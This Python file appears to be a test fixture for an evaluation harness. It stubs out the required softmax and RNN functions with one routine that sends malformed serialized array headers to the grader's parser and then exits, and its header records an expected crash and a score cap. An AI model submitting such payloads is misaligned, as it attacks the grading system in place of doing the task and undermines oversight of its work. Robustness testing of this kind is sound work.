# /// attack
# tries = "sends arrays that claim more than they hold, that overlap, and of dtypes that do not exist"
# score_at_most = 83.75
# status = ["crashed"]
# ///
import struct

FLOAT = 11
ARRAYS = [
    struct.pack("<BBBq", FLOAT, 1, 0, 1 << 62),
    struct.pack("<BBBq", FLOAT, 1, 0, -1),
    struct.pack("<BBBq", FLOAT, 1, 0, -(1 << 63)),
    struct.pack("<BBB3q", FLOAT, 3, 0, 0, 1 << 62, 1 << 62),
    struct.pack("<BBB2q", FLOAT, 2, 0, -1, -1),
    struct.pack("<BBB2q", FLOAT, 2, 0, 1 << 32, 1 << 32),
    struct.pack("<BBBqq", FLOAT, 1, 1, 1, 0),
    struct.pack("<BBBqq", FLOAT, 1, 1, 4, -(1 << 60)),
    struct.pack("<BBB", FLOAT, 255, 0),
    struct.pack("<BBB", 255, 0, 0),
    struct.pack("<BBBq", FLOAT, 1, 0, 3) + b"xyz",
    struct.pack("<BBB64q", FLOAT, 64, 0, *[1] * 64),
    b"",
    b"\x0b",
]
SCALARS = [b"", b"\xff", b"\x0b", b"\x0b" + bytes(7), b"\x0b" + bytes(9)]
NUMBERS = [(3, b""), (3, bytes(15)), (3, bytes(17)), (4, bytes(5000)), (127, b""), (-1, b"")]
HEADS = [(1, data) for data in ARRAYS] + [(2, data) for data in SCALARS] + NUMBERS


def _send(*_, **__):
    HEADS.insert(0, HEADS.pop())
    kind, data = HEADS[0]
    head = b"\xc8" + len(data).to_bytes(2, "big") + kind.to_bytes(1, "big", signed=True) + data
    send_answer("returned", raw_value(head, bytes(20)), raw_value(head, bytes(8)))
    os._exit(0)


softmax = rnn_step = cross_entropy = rnn_outputs = rnn_forward = _send
